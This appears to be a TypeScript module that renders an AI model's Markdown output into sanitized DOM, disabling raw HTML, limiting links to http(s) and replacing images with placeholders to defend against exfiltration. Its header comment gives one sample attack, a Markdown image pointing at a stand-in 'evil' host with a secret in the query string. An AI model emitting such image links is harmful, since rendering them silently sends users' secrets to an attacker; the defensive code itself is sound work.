import MarkdownIt from 'markdown-it';
import { fenceLanguage, highlight } from './highlight';
import { sanitizeToFragment } from './sanitize';

/**
 * Assistant text -> sanitized DOM. markdown-it with raw HTML off (a model's `<script>` is shown as text),
 * linkify on, links limited to http(s), and images never rendered as `<img>`: an image in model output is the
 * classic exfiltration channel (`![x](https://evil/?q=<secret>)` fires a request the moment it renders), so it
 * becomes a placeholder with its description and address, and the address a link the host confirms first.
 */

const md = new MarkdownIt({ html: false, linkify: true, typographer: false, breaks: false });
md.linkify.set({ fuzzyEmail: false });
// markdown-it's own check only rejects javascript:/vbscript:/file:/data:; we accept http(s) and nothing else.
md.validateLink = (url: string) => /^https?:\/\//i.test(url.trim());

const escapeHtml = md.utils.escapeHtml;

md.renderer.rules.image = (tokens, index) => {
  const token = tokens[index];
  const src = String(token?.attrGet('src') ?? '');
  const alt = token ? md.renderer.renderInlineAsText(token.children ?? [], md.options, {}) : '';
  const label = `Image not loaded${alt ? `: ${alt}` : ''}`;
  return `<span class="image-placeholder">${escapeHtml(label)} (<a href="${escapeHtml(src)}">${escapeHtml(src)}</a>)</span>`;
};

function codeBlock(code: string, info: string): string {
  const language = fenceLanguage(info);
  const highlighted = highlight(code, language) ?? escapeHtml(code);
  const languageClass = language ? ` language-${language}` : '';
  return `<pre class="code-block"><code class="hljs${languageClass}">${highlighted}</code></pre>\n`;
}

md.renderer.rules.fence = (tokens, index) => {
  const token = tokens[index];
  return token ? codeBlock(token.content, token.info) : '';
};
md.renderer.rules.code_block = (tokens, index) => {
  const token = tokens[index];
  return token ? codeBlock(token.content, '') : '';
};

// Table alignment comes out as a style attribute, which the sanitizer drops (CSS can fetch URLs): use a class.
md.core.ruler.push('alignment_classes', (state) => {
  for (const token of state.tokens) {
    if (token.type === 'th_open' || token.type === 'td_open') {
      const align = /text-align:\s*(left|center|right)/.exec(String(token.attrGet('style') ?? ''))?.[1];
      token.attrs = align ? [['class', `align-${align}`]] : null;
    }
  }
  return true;
});

/** Renders Markdown into a fresh fragment of sanitized nodes. */
export function renderMarkdown(text: string): DocumentFragment {
  return sanitizeToFragment(md.render(text));
}
